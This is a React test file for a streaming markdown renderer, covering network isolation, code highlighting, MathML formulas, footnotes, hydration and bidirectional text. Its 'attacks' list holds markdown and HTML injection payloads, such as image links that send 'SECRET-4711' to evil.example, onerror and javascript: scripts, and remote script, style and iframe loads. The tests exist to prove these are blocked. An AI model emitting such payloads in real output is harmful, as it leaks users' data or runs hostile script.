import { flushSync } from 'react-dom'
import { createRoot, hydrateRoot } from 'react-dom/client'
import { renderToString } from 'react-dom/server'
import { afterEach, describe, expect, it } from 'vitest'
import { samples } from '../fixtures/samples.ts'
import { HighlightedCode } from '../highlight.ts'
import { mathComponents, texSyntax } from '../math.ts'
import { CodeBlock } from './CodeBlock.tsx'
import { StreamingMarkdown } from './StreamingMarkdown.tsx'

const attacks = [
  '![x](https://evil.example/p.png?q=SECRET-4711)',
  '![x][r]\n\n[r]: https://evil.example/p.png',
  '<img src=https://evil.example/p.png onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css"</style><link rel=stylesheet href=https://evil.example/y.css>',
  '<iframe src=https://evil.example></iframe><script src=https://evil.example/x.js></script>',
  '```html\n<img src=https://evil.example/p.png>\n```',
  '| ![x](https://evil.example/p) |\n|---|\n| ![y](//evil.example/p) |',
  '[x](javascript:alert(1)) <javascript:alert(1)> https://evil.example/?q=SECRET-4711',
  '$\\includegraphics{https://evil.example/p.png}$ \\(\\href{javascript:alert(1)}{x}\\)',
]

// The code is fetched on demand, which a busy machine may take its time for.
const patient = { timeout: 20_000 }

let stop: (() => void) | undefined
afterEach(() => stop?.())

const mount = () => {
  const container = document.createElement('div')
  document.body.append(container)
  const root = createRoot(container)
  stop = () => {
    root.unmount()
    container.remove()
  }
  return { container, root }
}

describe('in a browser', () => {
  it('asks the network for nothing, at any prefix, and breaks no policy', async () => {
    const { container, root } = mount()
    const requests: string[] = []
    const observer = new PerformanceObserver((list) =>
      requests.push(...list.getEntries().map(({ name }) => name)),
    )
    observer.observe({ type: 'resource' })
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', ({ blockedURI }) =>
      violations.push(blockedURI),
    )
    for (const attack of attacks) {
      for (let end = 1; end <= attack.length; end++) {
        flushSync(() =>
          root.render(
            <StreamingMarkdown
              text={attack.slice(0, end)}
              streaming
              math={texSyntax}
              components={mathComponents}
            />,
          ),
        )
      }
      flushSync(() =>
        root.render(
          <StreamingMarkdown text={attack} math={texSyntax} components={mathComponents} />,
        ),
      )
      container
        .querySelector('a')
        ?.dispatchEvent(new PointerEvent('pointerover', { bubbles: true }))
    }
    await new Promise((resolve) => setTimeout(resolve, 300))
    observer.disconnect()
    expect(requests.filter((name) => name.includes('evil') || name.includes('SECRET'))).toEqual([])
    expect(violations).toEqual([])
    expect(container.querySelector('script, iframe, img, style, link, form')).toBeNull()
  })

  it('colours finished lines of code without touching the DOM', async () => {
    const { container, root } = mount()
    const draw = (text: string, streaming = true) =>
      flushSync(() =>
        root.render(
          <StreamingMarkdown
            text={text}
            streaming={streaming}
            components={{ code: HighlightedCode }}
          />,
        ),
      )
    draw('```ts\nconst a = 1\nlet b')
    await expect.poll(() => CSS.highlights.get('pm-keyword')?.size, patient).toBe(1)
    draw('```ts\nconst a = 1\nlet b = 2\n```\n', false)
    await expect.poll(() => CSS.highlights.get('pm-keyword')?.size, patient).toBe(2)
    expect(container.querySelector('code')?.innerHTML).toBe('const a = 1\nlet b = 2')
    flushSync(() => root.render(null))
    await expect.poll(() => CSS.highlights.get('pm-keyword')?.size, patient).toBe(0)
  })

  it('draws formulas as MathML', async () => {
    const { container, root } = mount()
    flushSync(() =>
      root.render(
        <StreamingMarkdown
          text={'$x^2$\n\n$$\n\\frac{a}{b}\n$$'}
          math={texSyntax}
          components={mathComponents}
        />,
      ),
    )
    await expect.poll(() => container.querySelectorAll('math').length, patient).toBe(2)
    expect(container.querySelector('math')?.namespaceURI).toBe('http://www.w3.org/1998/Math/MathML')
  })

  it('leads from a footnote call to the footnote and back', () => {
    const { container, root } = mount()
    flushSync(() => root.render(<StreamingMarkdown text={'a[^n]\n\n[^n]: The note'} />))
    const [call, back] = container.querySelectorAll('a')
    call?.click()
    expect(document.activeElement).toBe(container.querySelector('li'))
    back?.click()
    expect(document.activeElement).toBe(call)
  })

  it('takes over what a server has drawn', () => {
    const container = document.createElement('div')
    const text = Object.values(samples).join('\n\n')
    const drawn = <StreamingMarkdown text={text} components={{ code: CodeBlock }} />
    container.innerHTML = renderToString(drawn)
    const elements = [...container.querySelectorAll('*')]
    const errors: unknown[] = []
    const onRecoverableError = (error: unknown) => errors.push(error)
    const root = flushSync(() => hydrateRoot(container, drawn, { onRecoverableError }))
    flushSync(() => root.render(drawn))
    expect(errors).toEqual([])
    expect([...container.querySelectorAll('*')]).toEqual(elements)
    root.unmount()
  })

  it('turns a paragraph to its own direction', () => {
    const { container, root } = mount()
    flushSync(() => root.render(<StreamingMarkdown text={'שלום עולם\n\nhello\n\n- مرحبا'} />))
    const direction = (selector: string) =>
      getComputedStyle(container.querySelector(selector) as Element).direction
    expect([direction('p'), direction('p + p'), direction('li')]).toEqual(['rtl', 'ltr', 'rtl'])
  })
})
